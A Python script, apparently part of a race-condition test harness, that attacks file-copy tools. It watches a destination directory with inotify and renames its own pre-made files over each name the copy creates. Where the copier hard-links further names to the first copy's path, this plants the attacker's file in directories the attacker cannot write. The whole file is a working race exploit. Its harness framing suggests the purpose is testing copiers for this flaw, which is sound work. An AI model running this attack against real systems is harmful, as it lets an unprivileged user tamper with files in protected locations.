"""Swapping a tree's first copies: fills --watch with --count files of its own (--size bytes of
'A'), then, told by inotify of every name the copy makes there, renames one of them over it. A copy
that links further names of a hard-link group to whatever stands at the first copy's name puts the
attacker's file into directories the attacker cannot write."""
import ctypes
import os
import select
import struct
import racer

IN_CREATE = 0x100
IN_MOVED_TO = 0x80
IN_NONBLOCK = 0o4000

p = racer.parser(__doc__)
p.add_argument('--watch', required=True)
p.add_argument('--count', type=int, default=1000)
p.add_argument('--size', type=int, default=4096)
args = p.parse_args()
events = racer.Events(args)
bound = racer.Bound(args)
libc = ctypes.CDLL(None, use_errno=True)
pool = []
for n in range(args.count):
    name = os.path.join(args.watch, 'pool%05d' % n)
    with open(name, 'wb') as f:
        f.write(b'A' * args.size)
    pool.append(name)
watcher = libc.inotify_init1(IN_NONBLOCK)
if watcher < 0 or libc.inotify_add_watch(watcher, args.watch.encode(), IN_CREATE | IN_MOVED_TO) < 0:
    raise OSError(ctypes.get_errno(), 'inotify')
racer.ready(args)
swaps = 0
while bound.go() and pool:
    if not select.select([watcher], [], [], 0.05)[0]:
        continue
    try:
        data = os.read(watcher, 65536)
    except BlockingIOError:
        continue
    at = 0
    while at < len(data):
        _, _, _, length = struct.unpack_from('iIII', data, at)
        name = data[at + 16:at + 16 + length].rstrip(b'\0').decode(errors='surrogateescape')
        at += 16 + length
        if not name or name.startswith('pool') or name.startswith('.') or not pool:
            continue
        if racer.quietly(os.rename, pool[-1], os.path.join(args.watch, name)):
            pool.pop()
            swaps += 1
            events.add(kind='swap', name=name)
racer.result(args, swaps=swaps, iterations=bound.count)
